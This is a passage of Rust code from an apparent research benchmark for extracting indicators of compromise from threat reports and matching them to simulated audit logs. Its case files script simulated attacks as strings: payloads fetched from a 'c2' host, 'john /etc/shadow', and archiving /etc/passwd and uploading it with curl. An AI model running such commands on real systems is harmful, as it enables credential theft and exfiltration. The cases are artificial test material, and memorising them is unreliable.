    // Password cracker from the C2.
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl http://c2/john.zip");
    let fd = sim.connect(curl, "192.168.29.100", 80);
    sim.recv(curl, fd, 1_048_576, 8);
    sim.close(curl, fd);
    burst_gap(sim);
    sim.write_file(curl, "/tmp/john.zip", 1_048_576, 8);
    sim.exit(curl);
    burst_gap(sim);
    let unzip = sim.spawn(shell, "/usr/bin/unzip", "unzip /tmp/john.zip");
    sim.read_file(unzip, "/tmp/john.zip", 1_048_576, 4);
    burst_gap(sim);
    sim.write_file(unzip, "/tmp/john/john", 2_097_152, 4);
    sim.exit(unzip);
    burst_gap(sim);
    // The cracker runs against the shadow file: 3 separate read bursts,
    // plus 2 fork-only worker starts the synthesized query cannot see.
    let john = sim.spawn(shell, "/tmp/john/john", "john /etc/shadow");
    fork_self(sim, john, 2);
    for _ in 0..3 {
        sim.read_file(john, "/etc/shadow", 16_384, 2);
        burst_gap(sim);
    }
    sim.exit(john);
}

fn data_leak_attack(sim: &mut Simulator) {
    let shell = sim.boot_process("/bin/bash", "www-data");
    let tar = sim.spawn(shell, "/bin/tar", "tar cf /tmp/upload.tar /etc/passwd");
    sim.read_file(tar, "/etc/passwd", 65_536, 4);
    burst_gap(sim);
    sim.write_file(tar, "/tmp/upload.tar", 65_536, 4);
    sim.exit(tar);
    burst_gap(sim);
    let bzip = sim.spawn(shell, "/bin/bzip2", "bzip2 /tmp/upload.tar");
    sim.read_file(bzip, "/tmp/upload.tar", 65_536, 4);
    burst_gap(sim);
    sim.write_file(bzip, "/tmp/upload.tar.bz2", 32_768, 4);
    sim.exit(bzip);
    burst_gap(sim);
    // GnuPG delegates the actual I/O to a helper process the CTI report
    // does not mention — the paper's recall gap (6/8) and the motivation
    // for variable-length path patterns.
    let gpg = sim.spawn(shell, "/usr/bin/gpg", "gpg -c /tmp/upload.tar.bz2");
    let helper = sim.spawn(gpg, "/usr/libexec/gpg-helper", "gpg-helper");
    sim.read_file(helper, "/tmp/upload.tar.bz2", 32_768, 4);
    burst_gap(sim);
    sim.write_file(helper, "/tmp/upload", 32_768, 4);
    sim.exit(helper);
    sim.exit(gpg);
    burst_gap(sim);
    let curl = sim.spawn(shell, "/usr/bin/curl", "curl -T /tmp/upload");
    sim.read_file(curl, "/tmp/upload", 32_768, 4);
    burst_gap(sim);
    let fd = sim.connect(curl, "192.168.29.128", 443);
    sim.send(curl, fd, 32_768, 8);
    sim.close(curl, fd);
    sim.exit(curl);
}

fn vpnfilter_attack(sim: &mut Simulator) {
    let shell = sim.boot_process("/bin/sh", "root");
    let wget = sim.spawn(shell, "/usr/bin/wget", "wget http://c2/vpnf_stage1");
    let fd = sim.connect(wget, "216.58.44.227", 80);
    sim.recv(wget, fd, 524_288, 4);
    sim.close(wget, fd);
    burst_gap(sim);
    sim.write_file(wget, "/tmp/vpnf_stage1", 524_288, 4);
    sim.exit(wget);
    burst_gap(sim);
    let stage1 = sim.spawn(shell, "/tmp/vpnf_stage1", "vpnf_stage1");
    // Stage 1 pulls the photobucket image and parses its EXIF metadata.
    let fd = sim.connect(stage1, "158.85.33.190", 443);
    sim.recv(stage1, fd, 131_072, 4);
    sim.close(stage1, fd);
    sim.write_file(stage1, "/tmp/update.png", 131_072, 4);
    burst_gap(sim);
    sim.read_file(stage1, "/tmp/update.png", 131_072, 2);
    burst_gap(sim);
    sim.write_file(stage1, "/tmp/vpnf_stage2", 262_144, 4);
    burst_gap(sim);
    // Stage 2 keeps a persistent C2 channel: 174 reconnects.
    let stage2 = sim.spawn(stage1, "/tmp/vpnf_stage2", "vpnf_stage2");
    for _ in 0..174 {
        let fd = sim.connect(stage2, "217.12.202.40", 443);
        sim.send(stage2, fd, 256, 1);
        sim.close(stage2, fd);
        burst_gap(sim);
    }
    sim.exit(stage2);
    sim.exit(stage1);
}

pub static CASES: [CaseSpec; 3] = [
    CaseSpec {
        id: "password_crack",
        name: "Password Cracking After Shellshock Penetration",
        report: "After the Shellshock penetration, the attacker used /usr/bin/wget to \
connect to the cloud service 162.125.6.6. It wrote the retrieved image to \
/tmp/photo.jpg. /usr/bin/exif read from /tmp/photo.jpg. Then the attacker used \
/usr/bin/curl to connect to the C2 server 192.168.29.100. It wrote the cracker \
archive to /tmp/john.zip. The stage library /tmp/libfoo.so downloaded /tmp/john.zip \
as well. /usr/bin/unzip read from /tmp/john.zip and wrote to /tmp/john/john. \
Finally, the attacker used /tmp/john/john to read /etc/shadow.",
        gt_entities: &[
            ("/usr/bin/wget", FilePath),
            ("162.125.6.6", Ip),
            ("/tmp/photo.jpg", FilePath),
            ("/usr/bin/exif", FilePath),
            ("/usr/bin/curl", FilePath),
            ("192.168.29.100", Ip),
            ("/tmp/john.zip", FilePath),
            ("/tmp/libfoo.so", FilePath),
            ("/tmp/john/john", FilePath),
            ("/usr/bin/unzip", FilePath),
            ("/etc/shadow", FilePath),
        ],
        gt_relations: &[
            ("/usr/bin/wget", "connect", "162.125.6.6"),
            ("/usr/bin/wget", "write", "/tmp/photo.jpg"),
            ("/usr/bin/exif", "read", "/tmp/photo.jpg"),
            ("/usr/bin/curl", "connect", "192.168.29.100"),
            ("/usr/bin/curl", "write", "/tmp/john.zip"),
            ("/tmp/libfoo.so", "download", "/tmp/john.zip"),
            ("/usr/bin/unzip", "read", "/tmp/john.zip"),
            ("/usr/bin/unzip", "write", "/tmp/john/john"),
            ("/tmp/john/john", "read", "/etc/shadow"),
        ],
        gt_events: &[
            ("/usr/bin/wget", "connect", "162.125.6.6"),
            ("/usr/bin/wget", "write", "/tmp/photo.jpg"),
            ("/usr/bin/exif", "read", "/tmp/photo.jpg"),
            ("/usr/bin/curl", "connect", "192.168.29.100"),
            ("/usr/bin/curl", "write", "/tmp/john.zip"),
            ("/usr/bin/unzip", "read", "/tmp/john.zip"),
            ("/usr/bin/unzip", "write", "/tmp/john/john"),
            ("/tmp/john/john", "read", "/etc/shadow"),
            ("/tmp/john/john", "start", "/tmp/john/john"),
        ],
        attack: password_crack_attack,
        noise_sessions: 320,
    },
    CaseSpec {
        id: "data_leak",
        name: "Data Leakage After Shellshock Penetration",
        report: "After the lateral movement stage, the attacker attempts to steal valuable \
assets from the host. As a first step, the attacker used /bin/tar to read user \
credentials from /etc/passwd. It wrote the gathered information to a file \
/tmp/upload.tar. /bin/bzip2 read from /tmp/upload.tar and wrote to \
/tmp/upload.tar.bz2. This corresponds to the launched process /usr/bin/gpg reading \
from /tmp/upload.tar.bz2. /usr/bin/gpg then wrote the sensitive information to \
/tmp/upload. Finally, the attacker leveraged /usr/bin/curl to read the data from \
/tmp/upload. He leaked the gathered sensitive information back to the attacker C2 \
host by using /usr/bin/curl to connect to 192.168.29.128.",
        gt_entities: &[
            ("/bin/tar", FilePath),
            ("/etc/passwd", FilePath),
            ("/tmp/upload.tar", FilePath),
            ("/bin/bzip2", FilePath),
            ("/tmp/upload.tar.bz2", FilePath),
            ("/usr/bin/gpg", FilePath),
            ("/tmp/upload", FilePath),
            ("/usr/bin/curl", FilePath),
            ("192.168.29.128", Ip),
        ],
        gt_relations: &[
            ("/bin/tar", "read", "/etc/passwd"),
            ("/bin/tar", "write", "/tmp/upload.tar"),
            ("/bin/bzip2", "read", "/tmp/upload.tar"),
            ("/bin/bzip2", "write", "/tmp/upload.tar.bz2"),
            ("/usr/bin/gpg", "read", "/tmp/upload.tar.bz2"),
            ("/usr/bin/gpg", "write", "/tmp/upload"),
            ("/usr/bin/curl", "read", "/tmp/upload"),
            ("/usr/bin/curl", "connect", "192.168.29.128"),
        ],
        gt_events: &[
            ("/bin/tar", "read", "/etc/passwd"),
            ("/bin/tar", "write", "/tmp/upload.tar"),
            ("/bin/bzip2", "read", "/tmp/upload.tar"),
            ("/bin/bzip2", "write", "/tmp/upload.tar.bz2"),
            ("/usr/libexec/gpg-helper", "read", "/tmp/upload.tar.bz2"),
            ("/usr/libexec/gpg-helper", "write", "/tmp/upload"),
            ("/usr/bin/curl", "read", "/tmp/upload"),
            ("/usr/bin/curl", "connect", "192.168.29.128"),
        ],
        attack: data_leak_attack,
        noise_sessions: 320,
    },
    CaseSpec {
        id: "vpnfilter",
        name: "VPNFilter",
        report: "The attacker used /usr/bin/wget to fetch the VPNFilter stage 1 malware \
/tmp/vpnf_stage1 from 216.58.44.227. /tmp/vpnf_stage1 read the update image \
/tmp/update.png from photobucket.com. It wrote the stage 2 malware to \
/tmp/vpnf_stage2. /tmp/vpnf_stage2 connected to 217.12.202.40.",
        gt_entities: &[
            ("/usr/bin/wget", FilePath),
            ("/tmp/vpnf_stage1", FilePath),
            ("216.58.44.227", Ip),
            ("/tmp/update.png", FilePath),
            ("photobucket.com", Domain),
            ("/tmp/vpnf_stage2", FilePath),
            ("217.12.202.40", Ip),
        ],
        gt_relations: &[
            ("/usr/bin/wget", "fetch", "/tmp/vpnf_stage1"),
            ("/usr/bin/wget", "fetch", "216.58.44.227"),
            ("/tmp/vpnf_stage1", "fetch", "216.58.44.227"),
            ("/tmp/vpnf_stage1", "read", "/tmp/update.png"),
            ("/tmp/vpnf_stage1", "read", "photobucket.com"),
            ("/tmp/update.png", "read", "photobucket.com"),
            ("/tmp/vpnf_stage1", "write", "/tmp/vpnf_stage2"),
            ("/tmp/vpnf_stage2", "connect", "217.12.202.40"),
        ],
        gt_events: &[
            ("/usr/bin/wget", "write", "/tmp/vpnf_stage1"),
            ("/usr/bin/wget", "read", "216.58.44.227"),
            ("/tmp/vpnf_stage1", "read", "/tmp/update.png"),
            ("/tmp/vpnf_stage1", "write", "/tmp/vpnf_stage2"),
            ("/tmp/vpnf_stage2", "connect", "217.12.202.40"),
        ],
        attack: vpnfilter_attack,
        noise_sessions: 320,
    },
];
