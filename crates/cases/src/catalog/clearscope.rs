//! ClearScope (Android) cases.

use raptor_audit::sim::Simulator;
use raptor_extract::IocType::*;

use super::{burst_gap, download_file};
use crate::spec::CaseSpec;

fn cs1_attack(sim: &mut Simulator) {
    let email = sim.boot_process("com.android.email", "u0_a12");
    // Three download bursts: 3 network reads + 3 file writes = 6 GT events.
    download_file(sim, email, "153.178.46.202", 80, "/sdcard/Download/invite.apk", 3);
    sim.exit(email);
}

fn cs2_attack(sim: &mut Simulator) {
    let ff = sim.boot_process("org.mozilla.firefox", "u0_a21");
    download_file(sim, ff, "161.116.88.72", 443, "/data/local/tmp/drakon", 1);
    // In-memory execution: firefox's forked child execs the implant.
    let _drakon = sim.spawn(ff, "/data/local/tmp/drakon", "drakon");
    sim.exit(ff);
}

fn cs3_attack(sim: &mut Simulator) {
    let inst = sim.boot_process("com.android.defcontainer", "system");
    sim.read_file(inst, "/sdcard/MsgApp-instr.apk", 1_048_576, 8);
    burst_gap(sim);
    sim.exit(inst);
}

pub static CASES: [CaseSpec; 3] = [
    CaseSpec {
        id: "tc_clearscope_1",
        name: "20180406 1500 ClearScope - Phishing E-mail Link",
        report: "The victim clicked the embedded link in the phishing e-mail on the Android \
device. The mail client com.android.email downloaded the malicious package \
/sdcard/Download/invite.apk from 153.178.46.202.",
        gt_entities: &[
            ("com.android.email", FileName),
            ("/sdcard/Download/invite.apk", FilePath),
            ("153.178.46.202", Ip),
        ],
        gt_relations: &[
            ("com.android.email", "download", "/sdcard/Download/invite.apk"),
            ("com.android.email", "download", "153.178.46.202"),
            ("/sdcard/Download/invite.apk", "download", "153.178.46.202"),
        ],
        gt_events: &[
            ("com.android.email", "write", "/sdcard/Download/invite.apk"),
            ("com.android.email", "read", "153.178.46.202"),
        ],
        attack: cs1_attack,
        noise_sessions: 200,
    },
    CaseSpec {
        id: "tc_clearscope_2",
        name: "20180411 1400 ClearScope - Firefox Backdoor w/ Drakon In-Memory",
        report: "A drive-by download compromised the mobile browser. org.mozilla.firefox \
fetched the Drakon implant /data/local/tmp/drakon from 161.116.88.72 and executed \
/data/local/tmp/drakon in memory.",
        gt_entities: &[
            ("org.mozilla.firefox", FileName),
            ("/data/local/tmp/drakon", FilePath),
            ("161.116.88.72", Ip),
        ],
        gt_relations: &[
            ("org.mozilla.firefox", "fetch", "/data/local/tmp/drakon"),
            ("org.mozilla.firefox", "fetch", "161.116.88.72"),
            ("/data/local/tmp/drakon", "fetch", "161.116.88.72"),
            ("org.mozilla.firefox", "execute", "/data/local/tmp/drakon"),
        ],
        gt_events: &[
            ("org.mozilla.firefox", "write", "/data/local/tmp/drakon"),
            ("org.mozilla.firefox", "read", "161.116.88.72"),
            ("org.mozilla.firefox", "execute", "/data/local/tmp/drakon"),
        ],
        attack: cs2_attack,
        noise_sessions: 200,
    },
    CaseSpec {
        id: "tc_clearscope_3",
        name: "20180413 ClearScope",
        report: "During the 20180413 engagement, the suspicious installer \
com.android.defcontainer opened the staged package /sdcard/MsgApp-instr.apk.",
        gt_entities: &[
            ("com.android.defcontainer", FileName),
            ("/sdcard/MsgApp-instr.apk", FilePath),
        ],
        gt_relations: &[("com.android.defcontainer", "open", "/sdcard/MsgApp-instr.apk")],
        gt_events: &[("com.android.defcontainer", "read", "/sdcard/MsgApp-instr.apk")],
        attack: cs3_attack,
        noise_sessions: 150,
    },
];
