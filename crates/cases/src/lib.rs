//! The 18-case evaluation benchmark (Table IV).
//!
//! Fifteen DARPA-TC-style cases (ClearScope / FiveDirections / THEIA /
//! TRACE) plus the paper's three multi-step intrusive attacks
//! (password_crack, data_leak, vpnfilter). The original TC data release is
//! not redistributable, so each case ships as a *generator*: an OSCTI report
//! written in the register the extraction pipeline targets, a scripted
//! attack over the audit simulator, labelled ground truth for IOC entities,
//! IOC relations, and malicious system events, and a benign background
//! noise profile (DESIGN.md §1 documents the substitution).
//!
//! Several cases deliberately reproduce the paper's *failure modes*: the
//! `run` self-loop ambiguity that loses fork-only process starts
//! (tc_trace_1/3/4, tc_fivedirections_3), intermediate helper processes
//! omitted from CTI text (data_leak), and drifted IOCs (tc_trace_4).

pub mod catalog;
pub mod metrics;
pub mod spec;

pub use catalog::all_cases;
pub use metrics::{score_entities, score_relations, PrF1};
pub use spec::{build_case, BuiltCase, CaseSpec};
