//! Case specifications and scenario building.

use raptor_audit::reduce::{merge_events, DEFAULT_THRESHOLD};
use raptor_audit::sim::{generate_background, BackgroundProfile, Simulator};
use raptor_audit::{LogParser, Operation, ParsedLog};
use raptor_common::hash::FxHashSet;
use raptor_common::time::Timestamp;
use raptor_extract::IocType;

/// A ground-truth event selector: (subject exename contains, operation,
/// object default-attribute contains). Evaluated over the parsed log; the
/// selectors use attack-only IOC substrings so benign noise never matches.
pub type GtEventSpec = (&'static str, &'static str, &'static str);

/// One benchmark case.
pub struct CaseSpec {
    /// Short id, e.g. `tc_trace_1`.
    pub id: &'static str,
    /// Full name from Table IV.
    pub name: &'static str,
    /// The OSCTI report text fed to the extraction pipeline.
    pub report: &'static str,
    /// Gold IOC entities in the report (surface form, type).
    pub gt_entities: &'static [(&'static str, IocType)],
    /// Gold IOC relations (subject text, verb lemma, object text).
    pub gt_relations: &'static [(&'static str, &'static str, &'static str)],
    /// Ground-truth malicious event selectors.
    pub gt_events: &'static [GtEventSpec],
    /// The attack script.
    pub attack: fn(&mut Simulator),
    /// Baseline benign noise (sessions); scaled by `build_case`.
    pub noise_sessions: usize,
}

/// A generated case: the reduced log plus resolved ground-truth event ids.
pub struct BuiltCase {
    pub spec: &'static CaseSpec,
    pub log: ParsedLog,
    pub gt_event_ids: FxHashSet<i64>,
}

/// Builds a case at a given noise scale (1.0 = the spec's baseline).
pub fn build_case(spec: &'static CaseSpec, noise_scale: f64, seed: u64) -> BuiltCase {
    let mut sim = Simulator::new(seed, Timestamp::from_secs(1_523_000_000));
    let sessions = ((spec.noise_sessions as f64) * noise_scale).max(1.0) as usize;
    generate_background(&mut sim, &BackgroundProfile { users: 15, sessions, ..Default::default() });
    // The attack starts after a quiet gap, as a real intrusion would.
    sim.advance(raptor_common::time::Duration::from_secs(30));
    (spec.attack)(&mut sim);
    let mut log = LogParser::parse(&sim.finish());
    merge_events(&mut log.events, DEFAULT_THRESHOLD);
    let gt_event_ids = resolve_gt_events(&log, spec.gt_events);
    BuiltCase { spec, log, gt_event_ids }
}

/// Resolves ground-truth selectors against the parsed log.
fn resolve_gt_events(log: &ParsedLog, specs: &[GtEventSpec]) -> FxHashSet<i64> {
    let mut out = FxHashSet::default();
    for e in &log.events {
        let subj = log.entity(e.subject);
        let obj = log.entity(e.object);
        let subj_name = subj.attrs.default_attribute_value();
        let obj_name = obj.attrs.default_attribute_value();
        for &(s, op, o) in specs {
            let Some(want_op) = Operation::from_name(op) else { continue };
            if e.op == want_op && subj_name.contains(s) && obj_name.contains(o) {
                out.insert(e.id.index() as i64);
                break;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn gt_resolution_matches_substrings() {
        let spec =
            crate::catalog::all_cases().into_iter().find(|c| c.id == "tc_clearscope_3").unwrap();
        let built = build_case(spec, 0.1, 7);
        assert!(!built.gt_event_ids.is_empty());
        // Every GT event involves an attack IOC.
        for &id in &built.gt_event_ids {
            let e = &built.log.events[id as usize];
            let subj = built.log.entity(e.subject).attrs.default_attribute_value();
            assert!(subj.contains("com.android.defcontainer"), "{subj}");
        }
    }

    #[test]
    fn noise_scale_changes_log_size() {
        let spec =
            crate::catalog::all_cases().into_iter().find(|c| c.id == "tc_clearscope_3").unwrap();
        let small = build_case(spec, 0.1, 7);
        let large = build_case(spec, 1.0, 7);
        assert!(large.log.events.len() > small.log.events.len());
        // Ground truth is noise-invariant.
        assert_eq!(small.gt_event_ids.len(), large.gt_event_ids.len());
    }
}
