//! Precision / recall / F1 scoring.
//!
//! Entity scoring compares extracted IOC surface forms against gold labels
//! as sets per case; relation scoring compares (subject, verb, object)
//! triples. Micro-aggregation over cases matches the paper's "results are
//! aggregated over all 18 cases".

use raptor_common::hash::FxHashSet;

/// Counts for one precision/recall computation.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct PrF1 {
    pub tp: usize,
    pub fp: usize,
    pub fn_: usize,
}

impl PrF1 {
    pub fn precision(&self) -> f64 {
        if self.tp + self.fp == 0 {
            return 0.0;
        }
        self.tp as f64 / (self.tp + self.fp) as f64
    }

    pub fn recall(&self) -> f64 {
        if self.tp + self.fn_ == 0 {
            return 0.0;
        }
        self.tp as f64 / (self.tp + self.fn_) as f64
    }

    pub fn f1(&self) -> f64 {
        let (p, r) = (self.precision(), self.recall());
        if p + r == 0.0 {
            return 0.0;
        }
        2.0 * p * r / (p + r)
    }

    /// Micro-aggregation: sum the counts.
    pub fn add(&mut self, other: PrF1) {
        self.tp += other.tp;
        self.fp += other.fp;
        self.fn_ += other.fn_;
    }

    /// From predicted/gold sets.
    pub fn from_sets<T: Eq + std::hash::Hash>(
        predicted: &FxHashSet<T>,
        gold: &FxHashSet<T>,
    ) -> PrF1 {
        let tp = predicted.intersection(gold).count();
        PrF1 { tp, fp: predicted.len() - tp, fn_: gold.len() - tp }
    }
}

/// Scores extracted entity surface forms against gold labels.
pub fn score_entities(predicted: &[String], gold: &[(&str, raptor_extract::IocType)]) -> PrF1 {
    let p: FxHashSet<String> = predicted.iter().cloned().collect();
    let g: FxHashSet<String> = gold.iter().map(|(t, _)| t.to_string()).collect();
    PrF1::from_sets(&p, &g)
}

/// Scores extracted relation triples against gold labels. Subject/object
/// match on surface text (after the pipeline's canonicalization, the longer
/// form may carry a directory prefix, so gold text must be *contained*).
pub fn score_relations(
    predicted: &[(String, String, String)],
    gold: &[(&str, &str, &str)],
) -> PrF1 {
    let matches = |p: &(String, String, String), g: &(&str, &str, &str)| {
        p.1 == g.1 && text_match(&p.0, g.0) && text_match(&p.2, g.2)
    };
    let mut tp = 0usize;
    let mut used = vec![false; gold.len()];
    for p in predicted {
        if let Some(i) = gold.iter().enumerate().position(|(i, g)| !used[i] && matches(p, g)) {
            used[i] = true;
            tp += 1;
        }
    }
    PrF1 { tp, fp: predicted.len() - tp, fn_: gold.len() - tp }
}

fn text_match(predicted: &str, gold: &str) -> bool {
    predicted == gold || predicted.ends_with(gold) || gold.ends_with(predicted)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prf1_arithmetic() {
        let m = PrF1 { tp: 8, fp: 2, fn_: 2 };
        assert!((m.precision() - 0.8).abs() < 1e-9);
        assert!((m.recall() - 0.8).abs() < 1e-9);
        assert!((m.f1() - 0.8).abs() < 1e-9);
        let zero = PrF1::default();
        assert_eq!(zero.precision(), 0.0);
        assert_eq!(zero.f1(), 0.0);
    }

    #[test]
    fn entity_scoring() {
        let predicted =
            vec!["/bin/tar".to_string(), "/etc/passwd".to_string(), "bogus".to_string()];
        let gold = [
            ("/bin/tar", raptor_extract::IocType::FilePath),
            ("/etc/passwd", raptor_extract::IocType::FilePath),
            ("/tmp/missing", raptor_extract::IocType::FilePath),
        ];
        let m = score_entities(&predicted, &gold);
        assert_eq!(m, PrF1 { tp: 2, fp: 1, fn_: 1 });
    }

    #[test]
    fn relation_scoring_with_canonical_prefixes() {
        let predicted =
            vec![("/tmp/upload.tar".to_string(), "read".to_string(), "/etc/passwd".to_string())];
        // Gold labelled the bare name; canonical form carries the path.
        let gold = [("upload.tar", "read", "/etc/passwd")];
        assert_eq!(score_relations(&predicted, &gold), PrF1 { tp: 1, fp: 0, fn_: 0 });
        // Verb mismatch is a miss.
        let gold = [("upload.tar", "write", "/etc/passwd")];
        let m = score_relations(&predicted, &gold);
        assert_eq!(m, PrF1 { tp: 0, fp: 1, fn_: 1 });
    }

    #[test]
    fn micro_aggregation() {
        let mut total = PrF1::default();
        total.add(PrF1 { tp: 5, fp: 0, fn_: 1 });
        total.add(PrF1 { tp: 3, fp: 1, fn_: 0 });
        assert_eq!(total, PrF1 { tp: 8, fp: 1, fn_: 1 });
    }
}
