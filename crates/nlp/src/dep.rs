//! Deterministic dependency parsing.
//!
//! Produces UD-style trees for the OSCTI register: noun chunks are built
//! first (determiners, adjectives, compounds under a head noun), verb groups
//! collect their auxiliaries, clauses are linked (infinitival `xcomp`,
//! coordinated `conj`, relative `relcl`, gerund `acl`), and a left-to-right
//! attachment pass places subjects, objects and prepositional phrases.
//!
//! The constructions this parser must get right are exactly those that carry
//! threat behaviour in CTI reports:
//!
//! * "The attacker **used** X **to read** Y **from** Z" — instrument `dobj` +
//!   `xcomp` chain,
//! * "X **read from** A **and wrote to** B" — verb coordination with shared
//!   subject,
//! * "the file **was downloaded by** X" — passive with `by`-agent,
//! * "the launched process X **reading from** Y" — gerund `acl` whose logical
//!   subject is the modified noun,
//! * "..., **which connects to** Z" — relative clause on the preceding noun.

use crate::pos::{PosTag, VerbForm};
use crate::tokenize::Token;

/// Dependency labels (UD-flavoured).
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
pub enum DepLabel {
    Root,
    Nsubj,
    NsubjPass,
    Dobj,
    Aux,
    AuxPass,
    Det,
    Amod,
    Advmod,
    NumMod,
    Compound,
    Prep,
    Pobj,
    Cc,
    Conj,
    Mark,
    Xcomp,
    /// Gerund / participial clause modifying a noun.
    Acl,
    /// Relative clause.
    RelCl,
    Punct,
    /// Fallback attachment.
    Dep,
}

/// One node of the tree; parallel to the token slice it was parsed from.
#[derive(Clone, Debug)]
pub struct DepNode {
    pub head: Option<usize>,
    pub label: DepLabel,
    pub children: Vec<usize>,
}

/// A dependency tree over one sentence.
#[derive(Clone, Debug)]
pub struct DepTree {
    pub nodes: Vec<DepNode>,
    pub root: usize,
}

impl DepTree {
    pub fn len(&self) -> usize {
        self.nodes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.nodes.is_empty()
    }

    /// Path of node indices from `i` up to the root (inclusive).
    pub fn path_to_root(&self, mut i: usize) -> Vec<usize> {
        let mut path = vec![i];
        let mut guard = 0;
        while let Some(h) = self.nodes[i].head {
            path.push(h);
            i = h;
            guard += 1;
            if guard > self.nodes.len() {
                break; // defensive: malformed tree
            }
        }
        path
    }

    /// Lowest common ancestor of two nodes.
    pub fn lca(&self, a: usize, b: usize) -> usize {
        let pa = self.path_to_root(a);
        let pb = self.path_to_root(b);
        let set: raptor_common::FxHashSet<usize> = pb.into_iter().collect();
        for n in pa {
            if set.contains(&n) {
                return n;
            }
        }
        self.root
    }

    /// Labels along the downward path LCA → node (exclusive of the LCA,
    /// inclusive of the node's own label). Empty when `node == lca`.
    pub fn labels_from(&self, lca: usize, node: usize) -> Vec<DepLabel> {
        let mut labels = Vec::new();
        let mut i = node;
        let mut guard = 0;
        while i != lca {
            labels.push(self.nodes[i].label);
            match self.nodes[i].head {
                Some(h) => i = h,
                None => break,
            }
            guard += 1;
            if guard > self.nodes.len() {
                break;
            }
        }
        labels.reverse();
        labels
    }

    /// Nodes on the downward path LCA → node (exclusive of the LCA,
    /// inclusive of the node).
    pub fn nodes_from(&self, lca: usize, node: usize) -> Vec<usize> {
        let mut ids = Vec::new();
        let mut i = node;
        let mut guard = 0;
        while i != lca {
            ids.push(i);
            match self.nodes[i].head {
                Some(h) => i = h,
                None => break,
            }
            guard += 1;
            if guard > self.nodes.len() {
                break;
            }
        }
        ids.reverse();
        ids
    }

    /// First child of `i` with the given label.
    pub fn child_with_label(&self, i: usize, label: DepLabel) -> Option<usize> {
        self.nodes[i].children.iter().copied().find(|&c| self.nodes[c].label == label)
    }

    /// Verifies single-headedness and acyclicity (used by tests).
    pub fn is_well_formed(&self) -> bool {
        if self.nodes.is_empty() {
            return true;
        }
        if self.nodes[self.root].head.is_some() {
            return false;
        }
        for i in 0..self.nodes.len() {
            let path = self.path_to_root(i);
            if path.last() != Some(&self.root) {
                return false;
            }
            // path_to_root guards against cycles; re-check length sanity.
            if path.len() > self.nodes.len() {
                return false;
            }
        }
        true
    }
}

/// A noun chunk: token span plus head index.
#[derive(Clone, Copy, Debug)]
struct Chunk {
    start: usize,
    end: usize, // exclusive
    head: usize,
}

struct ParseState {
    head: Vec<Option<usize>>,
    label: Vec<DepLabel>,
}

impl ParseState {
    fn attach(&mut self, child: usize, parent: usize, label: DepLabel) {
        if child == parent {
            return;
        }
        // Never re-attach an already-attached node (first decision wins),
        // and never create a cycle.
        if self.head[child].is_some() {
            return;
        }
        let mut p = Some(parent);
        while let Some(x) = p {
            if x == child {
                return; // would create a cycle
            }
            p = self.head[x];
        }
        self.head[child] = Some(parent);
        self.label[child] = label;
    }
}

/// Parses one tagged sentence into a dependency tree.
pub fn parse(toks: &[Token]) -> DepTree {
    let n = toks.len();
    if n == 0 {
        return DepTree { nodes: Vec::new(), root: 0 };
    }
    let mut st = ParseState { head: vec![None; n], label: vec![DepLabel::Dep; n] };

    // --- noun chunks ---
    let chunks = find_chunks(toks);
    #[allow(clippy::needless_range_loop)]
    for c in &chunks {
        for i in c.start..c.end {
            if i == c.head {
                continue;
            }
            let lbl = match toks[i].pos {
                PosTag::Det => DepLabel::Det,
                PosTag::Adj => DepLabel::Amod,
                PosTag::Num => DepLabel::NumMod,
                PosTag::Noun | PosTag::Propn => DepLabel::Compound,
                PosTag::Pron => DepLabel::Compound,
                _ => DepLabel::Dep,
            };
            st.attach(i, c.head, lbl);
        }
    }
    let chunk_of = |i: usize| chunks.iter().find(|c| i >= c.start && i < c.end).copied();

    // --- verb groups ---
    let verbs: Vec<usize> = (0..n).filter(|&i| toks[i].pos == PosTag::Verb).collect();
    let mut passive = vec![false; n];
    let mut infinitive = vec![false; n];
    for &v in &verbs {
        // Scan backwards over AUX / ADV / PART(to).
        let mut j = v;
        while j > 0 {
            j -= 1;
            match toks[j].pos {
                PosTag::Aux => {
                    let is_be = matches!(
                        toks[j].lower.as_str(),
                        "is" | "are" | "was" | "were" | "be" | "been" | "being" | "am"
                    );
                    if is_be && toks[v].verb_form == Some(VerbForm::Participle) {
                        passive[v] = true;
                        st.attach(j, v, DepLabel::AuxPass);
                    } else {
                        st.attach(j, v, DepLabel::Aux);
                    }
                }
                PosTag::Adv => st.attach(j, v, DepLabel::Advmod),
                PosTag::Part if toks[j].lower == "to" => {
                    infinitive[v] = true;
                    st.attach(j, v, DepLabel::Mark);
                }
                _ => break,
            }
        }
    }

    // --- clause linking ---
    // Root: first finite verb (not infinitive, not gerund); fallback chain.
    let root = verbs
        .iter()
        .copied()
        .find(|&v| !infinitive[v] && toks[v].verb_form != Some(VerbForm::Gerund))
        .or_else(|| verbs.first().copied())
        .or_else(|| chunks.first().map(|c| c.head))
        .unwrap_or(0);
    st.label[root] = DepLabel::Root;

    let mut prev_finite = root;
    for &v in &verbs {
        if v == root {
            prev_finite = v;
            continue;
        }
        if infinitive[v] {
            st.attach(v, prev_finite, DepLabel::Xcomp);
            prev_finite = v;
            continue;
        }
        // Look back (skipping the verb group's own aux/adv/mark tokens and
        // punctuation) for the construction that introduces this verb.
        let mut j = v;
        let mut introducer: Option<usize> = None;
        while j > 0 {
            j -= 1;
            match toks[j].pos {
                PosTag::Aux | PosTag::Adv | PosTag::Part | PosTag::Punct => continue,
                _ => {
                    introducer = Some(j);
                    break;
                }
            }
        }
        match introducer {
            Some(i) if toks[i].pos == PosTag::Cconj => {
                // Coordinated verb: shares the previous clause.
                let head = prev_clause_verb(&verbs, v, root);
                st.attach(v, head, DepLabel::Conj);
                st.attach(i, v, DepLabel::Cc);
            }
            Some(i)
                if toks[i].pos == PosTag::Pron
                    && matches!(toks[i].lower.as_str(), "which" | "that" | "who") =>
            {
                // Relative clause on the nearest preceding noun-chunk head.
                let noun = chunks.iter().rev().find(|c| c.end <= i).map(|c| c.head);
                match noun {
                    Some(h) => {
                        st.attach(v, h, DepLabel::RelCl);
                        st.attach(i, v, DepLabel::Nsubj);
                    }
                    None => st.attach(v, prev_clause_verb(&verbs, v, root), DepLabel::Conj),
                }
            }
            Some(i) if toks[v].verb_form == Some(VerbForm::Gerund) && chunk_of(i).is_some() => {
